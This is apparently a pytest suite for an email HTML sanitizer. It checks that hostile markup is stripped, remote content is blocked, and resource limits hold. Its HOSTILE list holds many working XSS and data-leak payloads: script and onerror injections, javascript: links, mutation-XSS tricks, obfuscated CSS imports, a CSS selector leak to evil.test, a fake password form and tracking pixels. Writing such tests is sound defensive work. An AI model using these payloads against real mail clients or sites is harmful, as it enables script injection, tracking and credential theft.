"""HTML that wants to do harm: nothing of it runs, and nothing is fetched."""

from __future__ import annotations

import base64
from html.parser import HTMLParser

import pytest
from web_house import House

from mailsystem.web.sanitizing import DEEPEST, LONGEST, MOST_CARRIED, MOST_REFERENCES, asks_elsewhere, policy, sanitized

PNG = "data:image/png;base64,iVBORw0KGgo="

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src='https://evil.test'></iframe>",
    "<object data='https://evil.test'></object><embed src='https://evil.test'>",
    "<form action='https://evil.test'><input name=password><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href='https://evil.test/'>",
    "<link rel=stylesheet href='https://evil.test/x.css'>",
    "<img src='https://evil.test/pixel.gif'>",
    "<img src='//evil.test/pixel.gif'>",
    "<img srcset='https://evil.test/a.png 1x'>",
    "<img src='file:///etc/passwd'>",
    "<table background='https://evil.test/b.png'><tr><td background='http://evil.test/c.png'>x</table>",
    "<div style=\"background:url('https://evil.test/d.png')\">x</div>",
    "<div style='background:url(https://evil.test/d.png'>x</div>",
    "<style>@import 'https://evil.test/x.css'; body{background:url(https://evil.test/e.png)}</style>",
    "<style>@im@importport url(https://evil.test/x.css);</style>",
    "<style>@\\69mport 'https://evil.test';p{background:u\\72l(https://evil.test)}</style>",
    "<style>p{}</style ><script>alert(1)</script>",
    "<style>p{} <!-- </style><img src=x onerror=alert(1)>",
    "<style>input[value^=a]{background:url(https://evil.test/a)}",
    "<video src='https://evil.test/v'><source src='https://evil.test/w'></video><audio src='https://evil.test/a'>",
    "<body onload=alert(1) background='https://evil.test/b.png'>x",
    "<div style='width:expression(alert(1))'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a href='https://ok.test' target=_self onclick=alert(1) ping='https://evil.test'>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p style='x:\"</style><script>alert(1)</script>\"'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='><img src='data:text/html,x'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<input type=image src='https://evil.test/i'><button formaction='https://evil.test'>",
    "<portal src='https://evil.test'></portal><dialog open>x</dialog><slot><marquee onstart=alert(1)>",
]

HARMLESS = {"html", "head", "meta", "title", "style", "body"}


class Reader(HTMLParser):
    """What a browser would make of a document."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.styles: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.styles.append(data)


def read(document: str) -> Reader:
    reader = Reader()
    reader.feed(document)
    return reader


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_runs_and_nothing_is_fetched(html: str) -> None:
    found = read(sanitized(html, {}))
    assert not {tag for tag, _ in found.tags} & {
        "script", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "base", "link", "video", "audio",
        "source", "textarea", "template", "noscript", "portal", "frame", "frameset", "applet",
    }  # fmt: skip
    for tag, attributes in found.tags:
        assert not any(name.startswith("on") for name in attributes), (tag, attributes)
        assert not {"srcset", "action", "formaction", "ping", "http-equiv", "data", "poster"} & set(attributes)
        for name in ("src", "background"):
            assert (attributes.get(name) or "data:image/").startswith("data:image/")
        assert (attributes.get("href") or "https:").split(":")[0] in ("http", "https", "mailto", "tel")
        assert "evil" not in (attributes.get("style") or "")
    assert "//evil" not in "".join(found.styles)
    assert "@import" not in "".join(found.styles)
    assert [tag for tag, _ in found.tags].count("meta") == 2


def test_what_a_newsletter_is_made_of_stays() -> None:
    html = (
        "<html><head><title>x</title><style>.cta{color:#fff;padding:10px}</style></head>"
        "<body bgcolor='#eeeeee' style='margin:0'><table width='600' cellpadding='0'><tr><td align='center' valign='top'>"
        "<a class='cta' href='https://shop.test/reset?x=1&amp;y=2'>Go</a><img src='cid:logo@x' alt='Logo' width='80'>"
        "<p style='color:red;background:url(cid:logo@x)'>Hi</p></td></tr></table></body></html>"
    )
    document = sanitized(html, {"logo@x": PNG})
    found = read(document)
    named = dict(found.tags)
    assert named["a"]["href"] == "https://shop.test/reset?x=1&y=2"
    assert (named["a"]["target"], named["a"]["rel"]) == ("_blank", "noopener noreferrer nofollow")
    assert named["img"]["src"] == PNG
    assert "data:image/png" in (named["p"]["style"] or "")
    assert ".cta{color:#fff;padding:10px}" in found.styles
    assert named["div"]["bgcolor"] == "#eeeeee"


def test_pictures_from_elsewhere_only_if_they_are_asked_for() -> None:
    html = (
        "<img src='https://shop.test/a.png'><img src='//shop.test/b.png'><p style='background:url(http://shop.test/c)'>"
    )
    assert "shop.test" not in sanitized(html, {})
    shown = sanitized(html, {}, images=True)
    assert [f"shop.test/{name}" in shown for name in ("a.png", "b.png", "c")] == [True] * 3
    assert "https:" not in policy(images=False)
    assert "img-src data: https: http:;" in policy(images=True)
    for images in (True, False):
        assert "default-src 'none'" in policy(images=images)
        assert "allow-scripts" not in policy(images=images)
        assert "allow-same-origin" not in policy(images=images)


@pytest.mark.parametrize(
    ("html", "asks"),
    [
        ("<img src='https://x.test/a'>", True),
        ("<img src=//x.test/a>", True),
        ('<td background = "http://x.test">', True),
        ("<p style='background: URL( \"https://x.test\")'>", True),
        ("<a href='https://x.test'>x</a>", False),
        ("<img src='cid:x'>", False),
    ],
)
def test_whether_it_asks_elsewhere(html: str, asks: bool) -> None:
    assert asks_elsewhere(html) is asks


def test_what_would_take_the_square_of_its_length_is_cut_off() -> None:
    deep = sanitized("<div>" * (DEEPEST + 500) + "lost", {})
    assert deep.count("<div>") == DEEPEST
    assert "lost" not in deep
    many = sanitized("&" * (2 * MOST_REFERENCES), {})
    assert many.count("&amp;") == MOST_REFERENCES
    flat = sanitized("<div>x</div><p>y" * (2 * DEEPEST) + "kept", {})
    assert "kept" in flat


@pytest.mark.parametrize("begin", ["src=", "src", "url(", "url", "background='"])
def test_blanks_that_lead_nowhere_cost_no_more_than_others(begin: str) -> None:
    # Were the time to grow with the square of their number, this would end in some hours.
    assert not asks_elsewhere(begin + " " * LONGEST)


@pytest.mark.parametrize("html", ["<img src='cid:a'>", "<style>p{background:url(cid:a)}</style>"])
def test_a_picture_that_is_shown_many_times_does_not_make_the_document_endless(html: str) -> None:
    picture = "data:image/png;base64," + "A" * (MOST_CARRIED // 4)
    shown = sanitized(html * 1000, {"a": picture})
    assert shown.count(picture) == 3
    assert len(shown) < MOST_CARRIED + 100_000


def test_styles_are_found_behind_letters_that_are_longer_when_small() -> None:
    document = sanitized("İ" * 50 + "<STYLE>p{color:red}</STYLE><p>Hello</p>", {})
    assert read(document).styles[-1] == "p{color:red}"
    assert "<p>Hello</p>" in document


async def test_a_document_carries_its_own_pictures_and_its_policy(house: House) -> None:
    picture = base64.b64encode(b"\x89PNG").decode()
    message = (
        "Subject: x\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
        "<img src='cid:a@b'><img src='https://evil.test/p.gif'><script>alert(1)</script>\r\n--b\r\nContent-Type: image/png\r\n"
        f"Content-ID: <a@b>\r\nContent-Transfer-Encoding: base64\r\n\r\n{picture}\r\n--b--\r\n"
    )
    await house.send(message.encode())
    answer = await house.client.get("/v1/messages/latest/html")
    assert answer.headers["content-security-policy"] == policy(images=False)
    assert f"data:image/png;base64,{picture}" in answer.text
    assert "evil" not in answer.text
    assert "alert" not in answer.text
    asked = await house.client.get("/v1/messages/latest/html", params={"images": True, "theme": "dark"})
    assert "evil.test/p.gif" in asked.text
    assert "color-scheme:dark" in asked.text
    assert (await house.get("/v1/messages/latest"))["remote_content"] is True


def test_no_function_of_a_style_sheet_names_another_server() -> None:
    # Where the page itself came by http, "https:host" is as good as "https://host".
    for said in (
        'image-set("https:evil.test/a" 1x)',
        'image-set("httphttps:s:evil.test/a" 1x)',
        'src("http:evil.test")',
    ):
        document = sanitized(f"<style>p{{background:{said}}}</style><p style='background:{said}'>x", {}, images=True)
        assert "http" not in document.partition("</style>")[2], said


def test_no_blanks_hide_where_a_style_leads() -> None:
    # A browser passes over tabs and line ends in an address: `ht	tps:/	/` is https://.
    for blank in ("\t", "\n", "\r", "\f", "\x01"):
        said = f"image-set('ht{blank}tps:/{blank}/evil.test/a' 1x)"
        document = sanitized(f'<style>p{{background:{said}}}</style><p style="background:{said}">x', {})
        shown = document.partition("</style>")[2]
        assert blank not in shown
        assert f"ht{blank}tps" not in shown


def test_a_link_leads_where_its_author_meant() -> None:
    document = sanitized("<a href='https://x.test/?a=1&region=2&copy=3&amp;b=4'>x</a>", {})
    assert dict(read(document).tags)["a"]["href"] == "https://x.test/?a=1&region=2&copy=3&b=4"
